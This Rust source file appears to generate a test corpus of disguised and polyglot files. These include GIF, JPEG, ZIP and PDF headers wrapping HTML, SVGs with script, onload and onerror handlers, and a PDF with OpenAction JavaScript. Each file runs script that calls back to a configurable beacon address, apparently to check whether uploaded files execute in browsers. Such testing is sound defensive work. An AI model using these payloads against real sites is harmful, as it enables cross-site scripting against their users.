//! The files, each with a script that calls on an address under the file's own name.

/// Those that are known to run where a server believes their names; a browser may have reasons of its own not to run the others.
pub const RUN_ELSEWHERE: &[&str] = &[
    "gif.js",
    "gif.html",
    "jpeg.html",
    "zip.html",
    "pdf.html",
    "page.html",
    "page",
    "page.xhtml",
    "page.xml",
    "utf16.html",
    "drawing.svg",
    "onload.svg",
    "foreign.svg",
    "image.svg",
];

/// How many of the files are called drawings.
pub const DRAWINGS: usize = 6;

/// Something that tells the address `{beacon}/{name}` that it runs, in whatever it is allowed to.
fn script(beacon: &str, name: &str) -> String {
    format!(
        "(function(){{var u='{beacon}/{name}';try{{new Image().src=u}}catch(e){{}}try{{fetch(u,{{mode:'no-cors'}})}}catch(e){{}}\
         try{{navigator.sendBeacon(u)}}catch(e){{}}try{{location.href=u}}catch(e){{}}}})()"
    )
}

pub fn corpus(beacon: &str) -> Vec<(&'static str, Vec<u8>)> {
    const SVG: &str = "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"9\" height=\"9\"";
    let js = |name: &str| script(beacon, name);
    let html = |name: &str| format!("<!DOCTYPE html><html><body><script>{}</script></body></html>", js(name));
    let attribute = |name: &str| js(name).replace('&', "&amp;").replace('"', "&quot;").replace('<', "&lt;");
    let utf16 = |text: &str| [0xFEFF].into_iter().chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect();
    let bytes = |text: String| text.into_bytes();
    vec![
        // A GIF whose width begins a comment of JavaScript.
        (
            "gif.js",
            [b"GIF89a/*\x01\0\0\0\0,\0\0\0\0\x2f\x2a\x01\0\0\x02\x00;*/=1;".as_slice(), js("gif.js").as_bytes()]
                .concat(),
        ),
        (
            "gif.gif",
            [b"GIF89a/*\x01\0\0\0\0,\0\0\0\0\x2f\x2a\x01\0\0\x02\x00;*/=1;".as_slice(), js("gif.gif").as_bytes()]
                .concat(),
        ),
        ("gif.html", [b"GIF89a\x01\0\x01\0\0\0\0;".as_slice(), html("gif.html").as_bytes()].concat()),
        ("jpeg.html", [b"\xFF\xD8\xFF\xFE\x02\0".as_slice(), html("jpeg.html").as_bytes(), b"\xFF\xD9"].concat()),
        ("png.svg", [b"\x89PNG\r\n\x1A\n\0\0\0\0".as_slice(), html("png.svg").as_bytes()].concat()),
        ("zip.html", [b"PK\x03\x04\n\0\0\0\0\0".as_slice(), html("zip.html").as_bytes()].concat()),
        ("pdf.html", bytes(format!("%PDF-1.4\n{}", html("pdf.html")))),
        ("page.html", bytes(html("page.html"))),
        ("page.jpg", bytes(html("page.jpg"))),
        ("page.pdf", bytes(html("page.pdf"))),
        ("page.txt", bytes(html("page.txt"))),
        ("page.mp4", bytes(html("page.mp4"))),
        ("page", bytes(html("page"))),
        ("late.txt", bytes(format!("{}{}", "Just text. ".repeat(300), html("late.txt")))),
        ("utf16.html", utf16(&html("utf16.html"))),
        (
            "page.xhtml",
            bytes(format!(
                "<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"><body><script>{}</script></body></html>",
                js("page.xhtml").replace('&', "&amp;")
            )),
        ),
        (
            "page.xml",
            bytes(format!(
                "<?xml version=\"1.0\"?><root><script xmlns=\"http://www.w3.org/1999/xhtml\">{}</script></root>",
                js("page.xml").replace('&', "&amp;")
            )),
        ),
        (
            "drawing.svg",
            bytes(format!("{SVG}><script>{}</script><rect width=\"9\" height=\"9\"/></svg>", js("drawing.svg"))),
        ),
        (
            "onload.svg",
            bytes(format!("{SVG} onload=\"{}\"><rect width=\"9\" height=\"9\"/></svg>", attribute("onload.svg"))),
        ),
        (
            "foreign.svg",
            bytes(format!(
                "{SVG}><foreignObject width=\"9\" height=\"9\"><iframe xmlns=\"http://www.w3.org/1999/xhtml\" srcdoc=\"&lt;script&gt;{}\
                 &lt;/script&gt;\"/></foreignObject></svg>",
                attribute("foreign.svg")
            )),
        ),
        (
            "image.svg",
            bytes(format!(
                "{SVG}><image xlink:href=\"x:\" width=\"9\" height=\"9\" onerror=\"{}\"/></svg>",
                attribute("image.svg")
            )),
        ),
        // XML sees a text in the title, HTML an element.
        (
            "title.svg",
            bytes(format!("{SVG}><title><![CDATA[ ><img src=x: onerror=\"{}\"> ]]></title></svg>", js("title.svg"))),
        ),
        (
            "script.pdf",
            bytes(format!(
                "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('{beacon}/script.pdf'\\);\
                 this.submitForm\\('{beacon}/script.pdf'\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n\
                 3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
            )),
        ),
    ]
}
